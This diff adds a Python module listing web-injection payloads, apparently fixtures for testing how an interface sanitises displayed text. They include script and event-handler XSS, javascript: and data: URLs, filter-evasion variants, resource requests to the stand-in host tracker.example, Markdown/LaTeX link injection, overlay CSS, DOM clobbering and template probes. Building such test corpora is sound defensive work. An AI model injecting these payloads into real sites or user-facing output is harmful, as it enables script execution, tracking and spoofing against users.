@@ -1,0 +1,86 @@
+"""Texts that try to act as markup, script, style, link or template where they are shown.
+
+Each sets `window.hacked`, asks tracker.example for something, or leaves its box when it succeeds.
+"""
+
+_RUN = "window.hacked=1"
+_ASK = "http://tracker.example/"
+
+PAYLOADS = [
+    # Script
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT SRC={_ASK}x.js></SCRIPT>",
+    f"</script><script>{_RUN}//",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"<script\x0c>{_RUN}</script>",
+    f'<script type="module">{_RUN}</script>',
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<script nonce>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f"</textarea><script>{_RUN}</script>",
+    f"<!--<img src=--><script>{_RUN}</script>-->",
+    f"]]><script>{_RUN}</script>",
+    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
+    # Handlers
+    f"<img src=x onerror={_RUN}>",
+    f"<img/src='x'/onerror='{_RUN}'>",
+    f"<IMG SRC=x OnErRoR={_RUN}>",
+    f"<img src=x onerror\n=\n{_RUN}>",
+    f"<svg onload={_RUN}>",
+    f"<svg/onload={_RUN}//",
+    f"<body onload={_RUN}>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<select autofocus onfocus={_RUN}>",
+    f"<details open ontoggle={_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}>",
+    f"<marquee onstart={_RUN}>",
+    f"<div style='animation:a' onanimationstart={_RUN}>",
+    f"<a onmouseover={_RUN} href=#p-x-0-1-0-0>over</a>",
+    f'" onmouseover="{_RUN}" x="',
+    f"' autofocus onfocus='{_RUN}",
+    f"` onerror=`{_RUN}`",
+    # Addresses
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f"java\nscript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"<a href='javascript:{_RUN}'>click</a>",
+    f"<a href=' \x01javascript:{_RUN}'>click</a>",
+    f"<a href='java&#x09;script:{_RUN}'>click</a>",
+    f"<a href='data:text/html,<script>{_RUN}</script>'>click</a>",
+    f"<a href='vbscript:{_RUN}'>click</a>",
+    # Requests
+    f"<img src={_ASK}a.png>",
+    f"<img srcset='{_ASK}b.png 1x'>",
+    f"<iframe src={_ASK}frame></iframe>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<object data={_ASK}object></object>",
+    f"<embed src={_ASK}embed>",
+    f"<link rel=stylesheet href={_ASK}style.css>",
+    f"<style>@import '{_ASK}import.css';</style>",
+    f"<style>*{{background:url({_ASK}all.png)}}</style>",
+    f"<div style='background:url({_ASK}c.png)'>x</div>",
+    f"<form action={_ASK}form><button>Send</button></form>",
+    f"<meta http-equiv=refresh content='0;url={_ASK}meta'>",
+    f"<base href={_ASK}>",
+    f"<video poster={_ASK}poster.png></video>",
+    # Markdown and formulas
+    f"![picture]({_ASK}markdown.png)",
+    f"[click](javascript:{_RUN})",
+    f"[click]({_ASK}link)",
+    f"<{_ASK}automatic>",
+    f"[reference]: {_ASK}r 'x'\n\n![reference]",
+    f"```html\n<script>{_RUN}</script>\n```",
+    "$$\\href{javascript:window.hacked=1}{x}$$",
+    f"\\[ \\includegraphics{{{_ASK}latex.png}} \\]",
+    # Out of the box, and templates
+    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over all</div>",
+    "<h1 style='font-size:50vw;margin:-40vw'>BIG</h1>",
+    "<div id=dp-panel class=dp-close>clobbered</div><form id=gradio_config>",
+    "</div></div></div></main></body></html>",
+    "\u202e reversed \u202d <plaintext>",
+    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
+    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;",
+    "x" * 400 + "<img src=x onerror=window.hacked=1>",
+]
